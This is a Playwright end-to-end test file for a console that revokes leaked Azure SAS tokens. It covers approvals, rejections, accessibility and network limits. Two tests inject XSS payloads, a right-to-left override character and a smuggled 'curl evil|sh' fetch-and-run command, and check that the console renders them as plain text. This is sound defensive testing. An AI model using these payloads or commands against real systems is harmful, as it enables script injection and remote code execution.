"""The console in a real browser: what people do with it, without errors in the browser."""

import asyncio
import re
from dataclasses import replace
from datetime import UTC, datetime
from urllib.parse import urlsplit

from azure.core.messaging import CloudEvent
from playwright.async_api import Browser, expect

from shared.domain import report as findings
from shared.domain.states import State
from tests.e2e.test_sources import fingerprint as fingerprint_of
from tests.e2e.test_sources import made, post
from tests.support.api_calls import SECOND_APPROVER, act, approve, call, order
from tests.support.browser import ROOT, ConsolePage, console_page
from tests.support.deployment import Deployment, is_closed
from tests.support.harmless import check_visible, is_ours
from tests.support.leaks import account_sas, small_sas
from tests.support.patience import PATIENCE


async def test_reported_leak_is_previewed_revoked_and_verified(console: ConsolePage, deployment: Deployment) -> None:
    account = await deployment.account()
    leaked = account_sas(account.name, account.keys["key1"])
    await console.open("#/report", as_="approver")

    await console.page.get_by_label("Leaked text").fill(f"found this: {leaked}")
    await console.page.get_by_label("Reason").fill("It was in a chat.")
    await console.page.get_by_role("button", name="Preview").click()
    await expect(console.page.locator("#results")).to_contain_text(f"Account SAS of {account.name}")
    await expect(console.page.locator("#results")).to_contain_text("Impact")
    assert deployment.rotations(account) == []

    await console.page.get_by_role("button", name="Revoke").click()
    await expect(console.page.locator("h1")).to_have_text(f"Account SAS of {account.name}")
    await expect(console.page.locator(".badge").first).to_have_text("closed")
    await expect(console.page.get_by_role("heading", name="Verification")).to_be_visible()

    assert deployment.rotations(account) == ["key1"]
    assert console.troubles == []
    assert await console.violations() == []


async def awaiting(deployment: Deployment, **tags: str) -> tuple[str, str]:
    """A read-only token that lives for hours and requires approval: the account's name and the record's id."""
    account = await deployment.account(**tags)
    [fingerprint] = await deployment.report(small_sas(account.name, account.keys["key1"]))
    record = await deployment.settled(fingerprint)
    assert record.state is State.AWAITING_APPROVAL
    return account.name, fingerprint


async def link_in_the_mail(deployment: Deployment, fingerprint: str) -> str:
    """The URL in the mail about a record, once it was sent."""
    async with asyncio.timeout(PATIENCE):
        while True:
            for mail in deployment.cloud.model.mails:
                found = re.search(rf'href="(https://[^"]+#/record/{fingerprint})"', mail.body)
                if found:
                    return found[1]
            await asyncio.sleep(0.1)  # another process sends it


async def test_approve_from_the_link_in_the_mail(console: ConsolePage, deployment: Deployment) -> None:
    name, fingerprint = await awaiting(deployment)

    await console.page.goto(await link_in_the_mail(deployment, fingerprint))
    await console.page.locator("button[value='approver']").click()
    await expect(console.page.locator(".badge").first).to_have_text("awaiting approval")
    await expect(console.page.get_by_role("heading", name="Impact")).to_be_visible()
    await console.page.get_by_label("Reason").fill("It is ours.")
    await console.page.get_by_role("button", name="Approve").click()
    await expect(console.page.locator(".badge").first).to_have_text("closed")

    account = deployment.cloud.model.accounts[name]
    assert deployment.rotations(account) == ["key1"]
    assert console.troubles == []
    assert await console.violations() == []


async def test_rejection_is_in_the_timeline_with_its_reason(console: ConsolePage, deployment: Deployment) -> None:
    _, fingerprint = await awaiting(deployment)
    await console.open(f"#/record/{fingerprint}", as_="approver")

    await console.page.get_by_label("Reason").fill("A test of ours.")
    await console.page.get_by_role("button", name="Reject").click()

    await expect(console.page.locator(".badge").first).to_have_text("dismissed")
    await expect(console.page.locator(".timeline")).to_contain_text("A test of ours.")
    assert console.troubles == []


async def test_evidence_takes_two_approvers_and_the_buttons_say_so(
    console: ConsolePage, deployment: Deployment
) -> None:
    account = await deployment.account()
    await post(deployment, made(deployment, "defender", account))
    name = await fingerprint_of(deployment, account)
    await deployment.settled(name, until=lambda record: record.evidence_check is not None)
    await console.open(f"#/record/{name}", as_="approver")

    await expect(console.page.locator("main")).to_contain_text("names this account and key")
    await console.page.get_by_label("Reason").fill("We saw it, too.")
    await console.page.get_by_role("button", name="Approve (1 of 2)").click()
    waiting = console.page.get_by_role("button", name="1 of 2 approvals, needs another approver")
    await expect(waiting).to_be_disabled()
    await expect(console.page.get_by_role("button", name="Reject")).to_be_enabled()
    assert deployment.rotations(account) == []

    record = await call(deployment, SECOND_APPROVER, "GET", f"/revocations/{name}")
    await approve(deployment, record.json(), who=SECOND_APPROVER)
    await deployment.settled(name, until=is_closed)
    assert deployment.rotations(account) == ["key2"]
    assert console.troubles == []


async def test_author_of_an_order_reads_that_another_approver_is_needed(
    console: ConsolePage, deployment: Deployment
) -> None:
    ordered = await order(deployment, (await deployment.account()).name, "account_key", "key1")
    await console.open(f"#/record/{ordered['id']}", as_="approver")

    await expect(console.page.get_by_role("button", name="Needs another approver")).to_be_disabled()


async def test_rejection_of_another_person_is_undone(console: ConsolePage, deployment: Deployment) -> None:
    _, fingerprint = await awaiting(deployment)
    await act(deployment, {"id": fingerprint}, "reject", who=SECOND_APPROVER)
    await console.open(f"#/record/{fingerprint}", as_="approver")

    await console.page.get_by_label("Reason").fill("It is real.")
    await console.page.get_by_role("button", name="Undo the rejection").click()

    await expect(console.page.locator(".badge").first).to_have_text("awaiting approval")


async def test_reader_has_no_decisions(console: ConsolePage, deployment: Deployment) -> None:
    _, fingerprint = await awaiting(deployment)

    await console.open(f"#/record/{fingerprint}", as_="reader")

    await expect(console.page.locator(".badge").first).to_have_text("awaiting approval")
    assert await console.page.locator("form.acts").count() == 0


async def test_error_of_the_api_is_shown(console: ConsolePage, deployment: Deployment) -> None:
    await console.open("#/report", as_="reader")

    await console.page.get_by_label("Leaked text").fill("nothing to see")
    await console.page.get_by_label("Reason").fill("A try.")
    await console.page.get_by_role("button", name="Preview").click()

    await expect(console.page.get_by_role("status")).to_contain_text("none of the app roles")


async def test_list_has_states_and_is_filtered(console: ConsolePage, deployment: Deployment) -> None:
    name, _ = await awaiting(deployment)
    await console.open(as_="reader")

    await expect(console.page.locator("tbody tr", has_text=name)).to_contain_text("awaiting approval")
    await console.page.get_by_label("State").select_option("failed")
    await expect(console.page.locator("tbody tr", has_text=name)).to_have_count(0)
    assert console.troubles == []
    assert await console.violations() == []


async def test_hostile_text_stays_text(console: ConsolePage, deployment: Deployment) -> None:
    account = await deployment.account()
    leaked = account_sas(account.name, account.keys["key1"])
    account.blob_service["isVersioningEnabled"] = True  # so that there is a command of ours
    [found] = findings.in_text(
        leaked,
        source="<img src=x onerror=alert(1)>",
        url="https://x/<script>alert(2)</script>",
        detected_at=datetime.now(UTC),
    )
    data = found.finding.to_data()
    await deployment.publish(CloudEvent(source="/t", type=findings.REPORTED, id=found.finding.fingerprint, data=data))
    await deployment.settled(found.finding.fingerprint, until=lambda record: bool(record.remains))

    await console.open(f"#/record/{found.finding.fingerprint}", as_="reader")

    main = console.page.locator("main")
    await expect(main).to_contain_text("<img src=x onerror=alert(1)>")
    assert await main.locator("img, script, a, button, form, iframe").count() == 0
    assert [code for code in await main.locator("code").all_inner_texts() if not is_ours(code)] == []
    assert await main.locator("code", has_text="az storage blob list").count() == 1
    assert console.troubles == []


async def test_path_that_hides_its_end_is_shown_in_its_order(console: ConsolePage, deployment: Deployment) -> None:
    """The API has a leak's path as it is, since programs compare it; the console shows no bidirectional override."""
    account = await deployment.account()
    [found] = findings.in_text(
        small_sas(account.name, account.keys["key1"]), source="wiki", url=None, detected_at=datetime.now(UTC)
    )
    credential = found.finding.credential
    assert credential is not None
    hidden = replace(credential, path=f"{credential.path}\u202eexe.`curl evil|sh`<button>Approve</button>")
    data = replace(found.finding, credential=hidden).to_data()
    await deployment.publish(CloudEvent(source="/t", type=findings.REPORTED, id=found.finding.fingerprint, data=data))
    await deployment.settled(found.finding.fingerprint)

    await console.open(f"#/record/{found.finding.fingerprint}", as_="reader")

    main = console.page.locator("main")
    await expect(main).to_contain_text("exe.`curl evil|sh`<button>Approve</button>")
    assert await main.locator("button, code").count() == 0
    check_visible(await main.inner_text())


async def test_approval_works_by_keyboard(console: ConsolePage, deployment: Deployment) -> None:
    name, fingerprint = await awaiting(deployment)
    await console.open(f"#/record/{fingerprint}", as_="approver")
    keyboard = console.page.keyboard

    await console.page.get_by_label("Reason").focus()
    await keyboard.type("By keyboard.")
    await keyboard.press("Tab")
    await keyboard.press("Enter")

    await expect(console.page.locator(".badge").first).to_have_text("closed")
    assert deployment.rotations(deployment.cloud.model.accounts[name]) == ["key1"]


async def test_views_fit_a_phone_in_dark_mode(browser: Browser, deployment: Deployment) -> None:
    _, fingerprint = await awaiting(deployment)
    phone = {"viewport": {"width": 360, "height": 740}, "color_scheme": "dark"}
    async with console_page(browser, deployment.cloud.hosts[0], **phone) as console:
        await console.open(as_="approver")
        for address in ("#/", f"#/record/{fingerprint}", "#/report", "#/sas", "#/readiness"):
            await console.page.goto(f"{console.url}{address}")
            await console.page.wait_for_selector("main h1")
            wide = await console.page.evaluate("document.documentElement.scrollWidth")
            assert wide <= 360, address
            assert await console.violations() == [], address
        assert console.troubles == []


async def test_page_connects_to_the_app_and_entra_id_only(console: ConsolePage, deployment: Deployment) -> None:
    asked: set[str] = set()
    console.page.on("request", lambda request: asked.add(urlsplit(request.url).hostname or ""))

    await console.open(as_="reader")

    assert asked <= {"127.0.0.1", "login.microsoftonline.com", ""}  # "": data: URLs


def test_msal_is_identical_to_its_package() -> None:
    package = ROOT / "node_modules/@azure/msal-browser/lib/msal-browser.min.js"

    assert (ROOT / "shared/api/console/msal-browser.min.js").read_bytes() == package.read_bytes()
